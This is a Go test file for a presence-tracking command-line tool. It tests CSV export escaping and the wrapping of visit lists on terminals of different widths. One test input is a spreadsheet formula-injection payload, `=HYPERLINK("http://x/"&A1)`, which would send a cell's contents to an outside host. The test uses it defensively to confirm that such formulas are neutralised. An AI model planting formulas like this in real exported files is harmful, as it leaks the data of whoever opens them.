package main

import (
	"bytes"
	"encoding/csv"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/presenced/presenced/internal/control"
	"github.com/presenced/presenced/internal/terminal"
	"github.com/presenced/presenced/presence"
)

// TestSpreadsheetTakesNothingForAFormula: the names in it are strangers'.
func TestSpreadsheetTakesNothingForAFormula(t *testing.T) {
	var out bytes.Buffer
	p := &program{stdout: terminal.Out{Writer: &out}}
	cells := []string{`=HYPERLINK("http://x/"&A1)`, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "ann, \"ann\"@example.com", ""}
	if err := p.printCSV("A B C D E F G H", [][]string{slices.Clone(cells)}); err != nil {
		t.Fatal(err)
	}
	lines, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{`'=HYPERLINK("http://x/"&A1)`, "'+1", "'-1", "'@SUM(A1)", `\t=1`, `\r=1`, "ann, \"ann\"@example.com", ""}
	if strings.Join(lines[0], "") != "abcdefgh" || !slices.Equal(lines[1], want) {
		t.Errorf("%q", lines)
	}
}

// TestVisitsNeverCutTheReason: on a terminal of a hundred columns it stands under the
// visit, folded at most; on a wide one, beside it.
func TestVisitsNeverCutTheReason(t *testing.T) {
	const reason = "POST /v1/public/bookings/01GTBV1CT3BM8A42SEJ2J5F4EG/check-in: 503 Service Unavailable; tried again by itself until it ends"
	all := []control.Visit{{
		ID: "mjflhp1uf3", User: "christopher.longname@example.com", Site: "london", Arrived: control.Time{Time: time.Now()}, State: presence.Present,
		CheckIn: control.Errand{Status: presence.Pending, Reason: reason}, CheckOut: control.Errand{Status: presence.Waiting},
	}}
	for _, width := range []uint16{60, 100, 240} {
		ours, theirs := pseudoTerminal(t, width, 24)
		p := &program{stdout: terminal.Out{Writer: theirs}}
		if err := p.listVisits(func(yield func(control.Visit, error) bool) { yield(all[0], nil) }); err != nil {
			t.Fatal(err)
		}
		buf := make([]byte, 1<<16)
		n, err := ours.Read(buf)
		if err != nil {
			t.Fatal(err)
		}
		text := regexp.MustCompile(`\x1b\[[0-9;]*m|\r`).ReplaceAllString(string(buf[:n]), "")
		if !strings.Contains(strings.Join(strings.Fields(text), " "), reason) || !strings.Contains(text, "pending") {
			t.Errorf("at %d columns the reason is cut:\n%s", width, text)
		}
		if wide := len(strings.Split(strings.TrimSpace(text), "\n")) == 2; wide != (width == 240) {
			t.Errorf("at %d columns:\n%s", width, text)
		}
	}
}
